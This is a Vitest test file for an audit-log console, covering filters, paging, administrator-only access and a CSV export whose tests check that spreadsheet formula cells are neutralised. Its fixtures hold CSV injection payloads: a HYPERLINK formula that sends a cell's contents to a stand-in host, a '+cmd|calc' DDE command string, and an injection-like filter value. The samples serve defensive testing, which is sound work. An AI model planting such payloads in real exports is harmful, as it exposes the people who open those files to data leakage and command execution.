import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { AuditEntry } from '../../core/audit/audit.ts';
import { createTestApp, type TestApp } from '../../../test/helpers/app.ts';
import { createStaff, signIn, type SignedIn } from '../../../test/helpers/staff.ts';

let t: TestApp;
let admin: SignedIn;
let adminEmail: string;

const record = (entry: Omit<AuditEntry, 'actor'> & { actor?: AuditEntry['actor'] }) =>
  t.app.services.db.transaction().execute((trx) => t.app.services.audit(trx, { actor: { id: 'acct-1', label: 'ana@example.org' }, ...entry }));

beforeAll(async () => {
  t = await createTestApp();
  const now = t.clock.now();
  t.clock.set('2025-03-01T12:00:00.000Z');
  await record({ action: 'filter.alpha', targetType: 'tip', targetId: 'tip-1', detail: { status: 'open' } });
  t.clock.set('2025-03-02T12:00:00.000Z');
  await record({ action: 'filter.beta', targetType: 'tip', targetId: 'tip-2', actor: { id: null, label: 'cli' } });
  t.clock.set('2025-03-03T12:00:00.000Z');
  // `_` must be taken literally in an action prefix, not as LIKE's any-character.
  await record({ action: 'filter.a_b', targetType: 'business', targetId: 'b-1' });
  await record({ action: 'filter.axb', targetType: 'business', targetId: 'b-1' });
  // Spreadsheet formulas in any cell must come out neutralised in the CSV.
  await record({ action: 'evil.csv', targetType: 'note', targetId: '=HYPERLINK("http://x.example/?"&A1,"click")', actor: { id: null, label: '+cmd|calc' }, detail: { text: '@SUM(1,2)' } });
  t.clock.set(now);
  for (let i = 1; i <= 120; i++) await record({ action: 'bulk.row', targetType: 'bulk', targetId: String(i) });
});
afterAll(async () => t.close());

// An administrator of each test's own, so its sign-in and exports are told apart from others'.
beforeEach(async () => {
  const staff = await createStaff(t, ['administrator']);
  adminEmail = staff.account.email;
  admin = await signIn(t, staff);
});

const seqs = (html: string) => [...html.matchAll(/<tr><td[^>]*>(\d+)<\/td>/g)].map((m) => Number(m[1]));
const link = (html: string, rel: 'prev' | 'next') => {
  const m = new RegExp(`href="([^"]+)" rel="${rel}"`).exec(html);
  return m ? m[1]!.replaceAll('&amp;', '&') : undefined;
};

describe('audit console page', () => {
  it('lists the newest entries first with labelled filters and table headers', async () => {
    const page = await admin.get('/console/audit');
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('<h1>Audit log</h1>');
    expect(page.body).toContain('<th scope="col">What happened</th>');
    for (const field of ['actor', 'action', 'targetType', 'targetId', 'from', 'to']) expect(page.body).toContain(`<label for="${field}">`);
    const shown = seqs(page.body);
    expect(shown).toHaveLength(50);
    expect(shown).toEqual([...shown].sort((a, b) => b - a));
    // The administrator's own sign-in is the newest thing in the log.
    expect(page.body).toContain(adminEmail);
  });

  it('filters by action prefix, taking _ literally', async () => {
    const alpha = await admin.get('/console/audit?action=filter.');
    expect(alpha.body).toContain('filter.alpha');
    expect(alpha.body).toContain('filter.beta');
    expect(alpha.body).not.toContain('bulk.row');
    const literal = await admin.get('/console/audit?action=filter.a_');
    expect(literal.body).toContain('filter.a_b');
    expect(literal.body).not.toContain('filter.axb');
    expect(literal.body).not.toContain('filter.alpha');
    // Upper case is folded: actions are lower case.
    expect((await admin.get('/console/audit?action=FILTER.BETA')).body).toContain('filter.beta');
  });

  it('filters by actor, by target and by a date range in UTC', async () => {
    const cli = await admin.get('/console/audit?actor=cli');
    expect(seqs(cli.body)).toHaveLength(1);
    expect(cli.body).toContain('filter.beta');
    const byId = await admin.get('/console/audit?actor=acct-1&action=filter');
    expect(seqs(byId.body)).toHaveLength(3);
    const target = await admin.get('/console/audit?targetType=tip&targetId=tip-2');
    expect(seqs(target.body)).toHaveLength(1);
    expect(target.body).toContain('filter.beta');
    const range = await admin.get('/console/audit?from=2025-03-02&to=2025-03-02');
    expect(seqs(range.body)).toHaveLength(1);
    expect(range.body).toContain('filter.beta');
    const open = await admin.get('/console/audit?from=2025-03-02&to=2025-03-03&action=filter');
    expect(seqs(open.body)).toHaveLength(3);
  });

  it('keeps bad filters in the form with a message beside each field', async () => {
    const bad = await admin.get('/console/audit?from=2025-13-40&to=yesterday&action=account%3Bdrop&actor=cli');
    expect(bad.statusCode).toBe(422);
    expect(bad.body).toContain('id="from-error"');
    expect(bad.body).toContain('id="to-error"');
    expect(bad.body).toContain('id="action-error"');
    expect(bad.body).toContain('value="cli"');
    expect(bad.body).not.toContain('<table>');
    const backwards = await admin.get('/console/audit?from=2025-03-03&to=2025-03-01');
    expect(backwards.statusCode).toBe(422);
    expect(backwards.body).toContain('The end date must not be before the start date.');
  });

  it('pages through a filter with stable older and newer links', async () => {
    const first = await admin.get('/console/audit?action=bulk');
    expect(seqs(first.body)).toHaveLength(50);
    expect(link(first.body, 'prev')).toBeUndefined();
    const olderUrl = link(first.body, 'next')!;
    expect(olderUrl).toContain('action=bulk');
    const second = await admin.get(olderUrl);
    expect(seqs(second.body)).toHaveLength(50);
    expect(Math.max(...seqs(second.body))).toBeLessThan(Math.min(...seqs(first.body)));
    // New rows arriving meanwhile do not shift the pages.
    await record({ action: 'bulk.row', targetType: 'bulk', targetId: 'late' });
    const third = await admin.get(link(second.body, 'next')!);
    expect(seqs(third.body)).toHaveLength(20);
    expect(link(third.body, 'next')).toBeUndefined();
    const back = await admin.get(link(third.body, 'prev')!);
    expect(seqs(back.body)).toEqual(seqs(second.body));
    expect(back.body).toContain('Newest entries');
  });

  it('is for administrators only', async () => {
    const reviewer = await signIn(t, await createStaff(t, ['tip_reviewer']));
    expect((await reviewer.get('/console/audit')).statusCode).toBe(403);
    expect((await reviewer.get('/console/audit.csv')).statusCode).toBe(403);
    expect((await t.app.inject({ url: '/console/audit.csv' })).statusCode).toBe(303);
  });

  it('shows the page in Spanish to a Spanish-speaking administrator', async () => {
    const es = await signIn(t, await createStaff(t, ['administrator'], { locale: 'es' }));
    const page = await es.get('/console/audit');
    expect(page.body).toContain('<h1>Registro de auditoría</h1>');
    expect(page.body).toContain('Descargar estas entradas en CSV');
  });
});

describe('audit CSV export', () => {
  it('streams the filtered rows in chain order with formula cells neutralised, and records itself', async () => {
    const res = await admin.get('/console/audit.csv?action=evil');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.body.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe('seq,at,at_office_time,actor_id,actor_label,action,target_type,target_id,detail,prev_hash,hash');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`,'+cmd|calc,evil.csv,note,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",`);
    expect(lines[1]).toContain('"{""text"":""@SUM(1,2)""}"');

    const exported = await t.app.services.db.selectFrom('auditLog').selectAll().where('action', '=', 'audit.export').orderBy('seq', 'desc').executeTakeFirstOrThrow();
    expect(exported.actorLabel).toBe(adminEmail);
    expect(JSON.parse(exported.detail)).toEqual({ action: 'evil' });
  });

  it('includes its own audit row and every matching row, across batches', async () => {
    await admin.get('/console/audit.csv?action=evil');
    const res = await admin.get(`/console/audit.csv?action=audit.export&actor=${adminEmail}`);
    const lines = res.body.split('\r\n').filter(Boolean);
    // The previous export and this one.
    expect(lines).toHaveLength(3);
    // Past one export batch (500 rows), under a label no other test writes.
    const label = `batch-${adminEmail}`;
    await t.app.services.db.transaction().execute(async (trx) => {
      for (let i = 0; i < 550; i++) await t.app.services.audit(trx, { actor: { id: null, label }, action: 'batch.more', targetId: String(i) });
    });
    const all = await admin.get(`/console/audit.csv?actor=${label}`);
    const rows = all.body.split('\r\n').filter(Boolean).slice(1);
    const made = await t.app.services.db.selectFrom('auditLog').select('seq').where('actorLabel', '=', label).orderBy('seq').execute();
    expect(rows).toHaveLength(made.length);
    expect(rows.length).toBeGreaterThan(500);
    // In chain order, every one of them.
    const numbers = rows.map((r) => Number(r.split(',')[0]));
    expect(numbers).toEqual(made.map((r) => Number(r.seq)));
  });

  it('answers bad filters with the form, not a file', async () => {
    const res = await admin.get('/console/audit.csv?from=nope');
    expect(res.statusCode).toBe(422);
    expect(res.headers['content-type']).toContain('text/html');
  });
});
